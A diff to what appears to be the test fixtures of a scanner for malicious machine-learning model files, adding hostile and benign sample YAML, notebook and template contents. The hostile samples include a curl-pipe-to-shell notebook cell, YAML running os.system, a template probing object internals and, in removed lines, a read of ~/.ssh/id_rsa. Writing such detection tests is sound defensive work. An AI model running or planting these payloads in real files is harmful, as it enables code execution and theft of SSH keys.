@@ -155,7 +155,7 @@ def hostile_documents():
             "evaluated": "backbone:\n  - [-1, 1, __import__('os').system('id')]\n", "chat": "chat_template: \"{{ x.__class__ }}\"\n",
             "index": "dependencies:\n- pip:\n  - --extra-index-url http://127.0.0.1/simple\n"}
     out |= {f"yaml/{key}.yaml": content for key, content in yaml.items()}
-    cells = ("get_ipython().system('id')", "out = !curl http://127.0.0.1/x | sh", "!cat ~/.ssh/id_rsa")
+    cells = ("get_ipython().system('curl http://127.0.0.1/x')", "out = !curl http://127.0.0.1/x | sh")
     out |= {f"nb/{index}.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": [cell]}]}) for index, cell in enumerate(cells)}
     return {key: content.encode() for key, content in out.items()} | {
         "keras/wide.keras": zipped(("config.json", json.dumps(keras).encode("utf-16"))),
@@ -208,6 +208,8 @@ def clean():
         "adapter_config.json": b'{"auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.bert"}}',
         "model_index.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
         "chat.template": b"{% for m in messages %}{{ '__' ~ m['role'] ~ '__' }}{% endfor %}", "prompt.txt": b"Say {{ name }} and {% raw %}__x__{% endraw %}",
-        "nb.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["x = 1 if a != 2 else 3\nassert a != !b"[:24]]}]}).encode(),
+        "system.yaml": b"a: '{{ facts.system }}'\ntype: signal.filter\ntarget: test.data\n",
+        "kernel.txt": b"int a[] = {{ 1, 2 }};\n", "type.json": b'{"type": "http.request", "target": "code.coverage"}',
+        "nb.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["x = 1 if a != 2 else 3\n", "!ssh-keyscan github.com >> ~/.ssh/known_hosts"]}]}).encode(),
         "activation/config.json": json.dumps({"class_name": "Lambda", "config": {"function": "my_package.layers>scale"}}).encode()}
     return {"evasion/" + key: content for key, content in out.items()}
